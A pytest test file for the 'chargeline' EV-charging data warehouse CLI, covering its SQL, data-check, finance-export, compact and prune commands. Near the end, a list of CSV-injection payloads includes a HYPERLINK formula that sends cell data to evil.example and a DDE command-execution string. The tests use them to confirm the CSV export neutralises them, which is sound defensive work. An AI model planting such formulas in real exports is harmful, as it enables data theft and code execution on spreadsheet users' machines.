"""The warehouse commands as a user runs them: ``chargeline sql|check|export|compact|prune``."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from chargeline.cli import main
from tests.warehouse.conftest import Put, alert, event, frame, session


@pytest.fixture
def filled(data_dir: Path, put: Put) -> Path:
    put("frames", [frame(i) for i in range(1, 4)])
    put("events", [event(i, transaction_key="1", unit="Wh", meter_wh=1000.0 * i)
                   for i in range(1, 4)])
    put("sessions", [session("1"), session("2", flags=["meter_mismatch"], id_tag="TAG2")])
    put("alerts", [alert("a1", session_id="CP1/2")])
    return data_dir


def test_sql_prints_csv_json_and_table(filled: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = "select session_id, energy_kwh, flags from sessions order by 1"
    assert main(["sql", "--data-dir", str(filled), "--format", "csv", sql]) == 0
    assert capsys.readouterr().out.splitlines() == [
        '"session_id","energy_kwh","flags"', '"CP1/1",7,"[]"',
        '"CP1/2",7,"[\'meter_mismatch\']"']
    assert main(["sql", "--data-dir", str(filled), "--format", "json", sql]) == 0
    assert json.loads(capsys.readouterr().out)[1]["flags"] == ["meter_mismatch"]
    assert main(["sql", "--data-dir", str(filled), sql]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "(2 rows)"


def test_sql_bad_query_names_the_problem(filled: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["sql", "--data-dir", str(filled), "select nope from sessions"]) == 2
    assert "nope" in capsys.readouterr().err


def test_sql_shell_reads_statements_from_stdin(filled: Path, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    stdin = io.StringIO("select count(*) as n\n  from sessions;\nselect oops;\n"
                        "select 41 + 1 as answer;\n.quit\n")
    monkeypatch.setattr("sys.stdin", stdin)
    assert main(["sql", "--data-dir", str(filled), "--format", "csv"]) == 0
    out = capsys.readouterr()
    assert out.out.split() == ['"n"', "2", '"answer"', "42"]
    assert "oops" in out.err


def test_check_passes_on_good_data(filled: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["check", "--data-dir", str(filled)]) == 0
    assert "expectations, all passed" in capsys.readouterr().out


def test_check_fails_readably_on_bad_data(filled: Path, put: Put,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    put("sessions", [session("9", energy_wh=-40.0, status="finished")])
    put("alerts", [alert("a9", kind="gremlins")])
    put("events", [event(99, unit="kWh")])
    assert main(["check", "--data-dir", str(filled)]) == 1
    out = capsys.readouterr().out
    assert "FAIL sessions: expect_column_values_to_be_between on energy_wh: 1 bad rows, e.g. -40.0" in out
    assert "FAIL sessions: expect_column_values_to_be_in_set on status: 1 bad rows, e.g. 'finished'" in out
    assert "FAIL alerts: expect_column_values_to_be_in_set on kind: 1 bad rows, e.g. 'gremlins'" in out
    assert "FAIL events: expect_column_values_to_be_in_set on unit: 1 bad rows, e.g. 'kWh'" in out
    assert out.splitlines()[-1].endswith("4 failed")


def test_export_finance_csv(filled: Path, tmp_path: Path) -> None:
    out = tmp_path / "jan.csv"
    code = main(["export", "finance", "--data-dir", str(filled), "--from", "2026-01-01",
                 "--to", "2026-01-01", "--format", "csv", "--output", str(out)])
    assert code == 0
    got = list(csv.DictReader(out.open()))
    assert [(r["session_id"], r["id_tag"], r["energy_kwh"], r["billable"], r["hold_reason"],
             r["period"], r["flags"]) for r in got] == [
        ("CP1/1", "TAG1", "7", "true", "", "2026-01", ""),
        ("CP1/2", "TAG2", "7", "false", "meter_mismatch", "2026-01", "meter_mismatch")]


def test_export_finance_parquet_range_excludes_other_days(filled: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    out = tmp_path / "feb.parquet"
    assert main(["export", "finance", "--data-dir", str(filled), "--from", "2026-01-02",
                 "--to", "2026-02-28", "--format", "parquet", "--output", str(out)]) == 0
    assert pq.read_table(out).num_rows == 0


def test_export_rejects_bad_dates(filled: Path, tmp_path: Path,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    args = ["export", "finance", "--data-dir", str(filled), "--output", str(tmp_path / "x")]
    assert main([*args, "--from", "2026-13-01", "--to", "2026-01-01"]) == 2
    assert "--from is not a YYYY-MM-DD date: '2026-13-01'" in capsys.readouterr().err
    assert main([*args, "--from", "2026-02-01", "--to", "2026-01-01"]) == 2
    assert "before --from" in capsys.readouterr().err


def test_compact_and_prune_commands(filled: Path, put: Put,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    put("sessions", [session("1")])
    assert main(["compact", "--data-dir", str(filled)]) == 0
    assert capsys.readouterr().out.startswith("merged 2 files into 1")
    assert main(["prune", "--data-dir", str(filled), "--older-than", "30"]) == 0
    assert "pruned frames of 1 days" in capsys.readouterr().out


# Charger-chosen text a spreadsheet would run (OWASP CSV injection): each as an idTag, one as a
# 2.0.1 transactionId, one as the charge point id (so also the session id's start).
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def hostile_sessions(put: Put) -> None:
    put("sessions", [session(str(i), id_tag=tag) for i, tag in enumerate(HOSTILE)])
    put("sessions", [session("=1+2", protocol="ocpp2.0.1", charge_point_id="@CP-9",
                             id_tag="TAG9")])


def test_export_finance_csv_shows_charger_text_and_never_runs_it(data_dir: Path, put: Put,
                                                                 tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    hostile_sessions(put)
    args = ["export", "finance", "--data-dir", str(data_dir), "--from", "2026-01-01",
            "--to", "2026-01-01", "--output"]
    assert main([*args, str(tmp_path / "x.csv"), "--format", "csv"]) == 0
    assert main([*args, str(tmp_path / "x.parquet"), "--format", "parquet"]) == 0
    got = list(csv.DictReader((tmp_path / "x.csv").open(newline="")))
    by_id = {r["session_id"]: r for r in got}
    assert sorted(r["id_tag"] for r in got) == sorted(["TAG9", *("'" + t for t in HOSTILE)])
    assert by_id["'@CP-9/=1+2"]["charge_point_id"] == "'@CP-9"
    assert by_id["'@CP-9/=1+2"]["transaction_id"] == "'=1+2"
    cells = [cell for row in got for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    raw = pq.read_table(tmp_path / "x.parquet").to_pylist()
    assert sorted(r["id_tag"] for r in raw) == sorted(["TAG9", *HOSTILE])
    assert {r["charge_point_id"] for r in raw} == {"CP1", "@CP-9"}
